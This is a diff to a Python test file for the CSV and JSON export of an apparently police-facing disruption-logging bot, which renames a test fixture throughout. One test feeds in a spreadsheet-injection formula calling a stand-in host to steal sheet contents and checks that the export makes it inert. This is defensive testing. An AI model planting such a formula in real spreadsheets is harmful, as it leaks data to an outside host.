@@ -20,11 +20,6 @@ def pm():
     return get_plugin_manager(load_entrypoints=False, allow="help,disruptions")
 
 
-@pytest.fixture
-def dbot(make_bot, engine):
-    return make_bot(engine, demo=True)
-
-
 def run(bot, tmp_path, **options):
     out = tmp_path / f"export.{options.get('format', 'csv')}"
     args = Namespace(since=None, status="all", format="csv", out=str(out))
@@ -40,8 +35,8 @@ def read_csv(path):
     return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
 
 
-def test_one_row_per_disruption_with_the_national_columns(dbot, tmp_path):
-    rows = read_csv(run(dbot, tmp_path))
+def test_one_row_per_disruption_with_the_national_columns(bot, tmp_path):
+    rows = read_csv(run(bot, tmp_path))
     assert tuple(rows[0]) == export.COLUMNS
     needed = "ocg_ref occurred_on pillar grade description arrests cash_gbp drugs nominal"
     assert set(needed.split()) | {"recorded_by", "status", "moderated_by"} <= set(export.COLUMNS)
@@ -59,30 +54,30 @@ def test_one_row_per_disruption_with_the_national_columns(dbot, tmp_path):
     assert [r["occurred_on"] for r in rows] == sorted(r["occurred_on"] for r in rows)
 
 
-def test_nominal_money_and_pounds_sign_survive(dbot, tmp_path):
-    reply = dbot.handle(
+def test_nominal_money_and_pounds_sign_survive(bot, tmp_path):
+    reply = bot.handle(
         'disrupt smith major pursue "Cash seized from the car wash: £3,000 in a safe" '
         "cash=£3,000.50 assets=£1.2m nominal=danny",
         Who("console", "nguyen"),
         face="console",
     )
     assert not reply.error, reply.text
-    row = read_csv(run(dbot, tmp_path, status="pending"))[-1]
+    row = read_csv(run(bot, tmp_path, status="pending"))[-1]
     assert (row["cash_gbp"], row["assets_gbp"]) == ("3000.50", "1200000.00")
     assert (row["nominal"], row["nominal_role"]) == ("Danny Smith", "principal")
     assert "£3,000" in row["description"]
     assert row["moderated_by"] == ""
 
 
-def test_cells_a_spreadsheet_would_run_are_made_inert(dbot, tmp_path):
+def test_cells_a_spreadsheet_would_run_are_made_inert(bot, tmp_path):
     hostile = '=HYPERLINK("http://x.example/?"&A1,"click") to steal the sheet'
-    reply = dbot.handle(
+    reply = bot.handle(
         f'disrupt smith minor prevent "{hostile.replace(chr(34), chr(39))}" drugs="+44 cannabis"',
         Who("console", "nguyen"),
         face="console",
     )
     assert not reply.error, reply.text
-    rows = read_csv(run(dbot, tmp_path))
+    rows = read_csv(run(bot, tmp_path))
     assert rows[-1]["description"].startswith("'=HYPERLINK")
     assert rows[-1]["drugs"] == "'+44 cannabis"
     for row in rows:
@@ -96,31 +91,31 @@ def test_safe_cell_covers_every_formula_lead():
     assert export.safe_cell(12) == 12
 
 
-def test_filters_by_status_and_date(dbot, tmp_path):
-    assert len(read_csv(run(dbot, tmp_path, status="accepted"))) == 3
-    assert len(read_csv(run(dbot, tmp_path, status="pending"))) == 2
-    since = read_csv(run(dbot, tmp_path, since="19/02/2027"))
+def test_filters_by_status_and_date(bot, tmp_path):
+    assert len(read_csv(run(bot, tmp_path, status="accepted"))) == 3
+    assert len(read_csv(run(bot, tmp_path, status="pending"))) == 2
+    since = read_csv(run(bot, tmp_path, since="19/02/2027"))
     assert [r["occurred_on"] for r in since] == ["2027-02-19", "2027-02-26"]
 
 
-def test_json_is_one_array_with_money_as_numbers(dbot, tmp_path):
-    data = json.loads(run(dbot, tmp_path, format="json").read_text(encoding="utf-8"))
+def test_json_is_one_array_with_money_as_numbers(bot, tmp_path):
+    data = json.loads(run(bot, tmp_path, format="json").read_text(encoding="utf-8"))
     assert len(data) == 5 and set(data[0]) == set(export.COLUMNS)
     assert max(d["cash_gbp"] for d in data) == 12500.0
-    empty = json.loads(run(dbot, tmp_path, format="json", since="03/03/2027").read_text())
+    empty = json.loads(run(bot, tmp_path, format="json", since="03/03/2027").read_text())
     assert empty == []
 
 
-def test_every_export_is_audited(dbot, tmp_path):
-    run(dbot, tmp_path, status="accepted")
-    with Session(dbot.engine) as s:
+def test_every_export_is_audited(bot, tmp_path):
+    run(bot, tmp_path, status="accepted")
+    with Session(bot.engine) as s:
         last = s.exec(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
     assert (last.action, last.outcome) == ("export", "ok")
     assert "status=accepted" in last.text and last.detail.startswith("3 rows")
 
 
-def test_the_command_line_runs_it(dbot, tmp_path, monkeypatch, capsys):
-    monkeypatch.setenv("SOCBOT_DATABASE_URL", str(dbot.engine.url))
+def test_the_command_line_runs_it(bot, tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("SOCBOT_DATABASE_URL", str(bot.engine.url))
     monkeypatch.setenv("SOCBOT_DATA_DIR", str(tmp_path))
     monkeypatch.setenv("SOCBOT_LOAD_PLUGINS", "help,disruptions")
     out = tmp_path / "national.csv"
